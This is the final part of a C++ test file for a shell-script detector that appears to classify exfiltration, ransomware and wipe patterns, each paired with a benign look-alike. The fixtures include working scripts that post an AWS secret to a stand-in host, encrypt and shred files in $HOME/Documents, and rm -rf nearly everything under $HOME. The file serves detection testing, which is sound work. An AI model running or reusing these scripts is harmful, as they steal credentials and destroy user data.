       "    curl \"${args[@]}\" \"$PORTAL_URL/api/v2$path\"\n"
       "}\n"
       "api GET \"/repairs?state=open\" > repairs.json\n"
       "jq -c '{state: \"seen\"}' repairs.json > ack.json\n"
       "api POST /repairs/ack ack.json\n",
       nullptr, SH},
      {"the same helper posting an AWS secret as data", B,
       "#!/usr/bin/env bash\n"
       "set -euo pipefail\n"
       "api() {\n"
       "    local method=\"$1\" path=\"$2\" data=\"${3:-}\"\n"
       "    local args=(-sS --fail --max-time 30 -X \"$method\" -H \"Accept: application/json\")\n"
       "    if [[ -n \"$data\" ]]; then\n"
       "        args+=(--data-binary \"$data\")\n"
       "    fi\n"
       "    curl \"${args[@]}\" \"https://collect.example.net/api/v2$path\"\n"
       "}\n"
       "api POST /env \"key=$AWS_SECRET_ACCESS_KEY\"\n",
       "EXFILTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// `export -f` makes a function known to child shells, and `for f; do`
// iterates the positional parameters: find | xargs bash -c 'for f; do
// seal_one "$f"; done' _ runs the exported function on every document.
// The same pipeline compressing copies is not ransomware.
TEST(HundredFourthRoundClasses, ExportedFunctionsRunInChildShells) {
  const Case cases[] = {
      {"documents encrypted and shredded by an exported function through xargs", B,
       "#!/usr/bin/env bash\n"
       "seal_one() {\n"
       "    local f=\"$1\"\n"
       "    if openssl enc -aes-256-cbc -pbkdf2 -pass env:RUN_KEY -in \"$f\" -out \"$f.sealed\"; then\n"
       "        shred -u -n 1 -- \"$f\"\n"
       "    fi\n"
       "}\n"
       "export -f seal_one\n"
       "export RUN_KEY=\"$(openssl rand -hex 32)\"\n"
       "find \"$HOME/Documents\" -type f -print0 | xargs -0 -r -n 16 bash -c 'for f; do seal_one \"$f\"; done' _\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
      {"the same documents gzip -k'd", L,
       "#!/usr/bin/env bash\n"
       "seal_one() {\n"
       "    local f=\"$1\"\n"
       "    if gzip -k -9 \"$f\"; then\n"
       "        echo \"packed $f\"\n"
       "    fi\n"
       "}\n"
       "export -f seal_one\n"
       "export RUN_KEY=\"$(openssl rand -hex 32)\"\n"
       "find \"$HOME/Documents\" -type f -print0 | xargs -0 -r -n 16 bash -c 'for f; do seal_one \"$f\"; done' _\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// xargs gives the command lines of a shape it reads (find ROOT -print0:
// ROOT/<name> each) as arguments: every entry of the home directory removed
// with rm -rf is WIPE. Object files under ./build are the project's own.
TEST(HundredSeventhRoundClasses, XargsPassesOnTheShapeOfItsInput) {
  const Case cases[] = {
      {"every entry under $HOME but one, through xargs rm -rf", B,
       "#!/bin/sh\n"
       "set -eu\n"
       "KIOSK_DATA_ROOT=\"${KIOSK_DATA_ROOT:-$HOME}\"\n"
       "purge_session_data() {\n"
       "    root=\"$1\"\n"
       "    [ -d \"$root\" ] || return 0\n"
       "    find \"$root\" -mindepth 1 -maxdepth 1 ! -name '.kiosk' -print0 \\\n"
       "        | xargs -0 -r rm -rf --\n"
       "}\n"
       "purge_session_data \"$KIOSK_DATA_ROOT\"\n",
       "WIPE", SH},
      {"object files under ./build, through xargs rm -f", L,
       "#!/bin/sh\n"
       "set -eu\n"
       "BUILD_DIR=\"${BUILD_DIR:-./build}\"\n"
       "purge_objects() {\n"
       "    root=\"$1\"\n"
       "    [ -d \"$root\" ] || return 0\n"
       "    find \"$root\" -mindepth 1 -name '*.o' -print0 \\\n"
       "        | xargs -0 -r rm -f --\n"
       "}\n"
       "purge_objects \"$BUILD_DIR\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
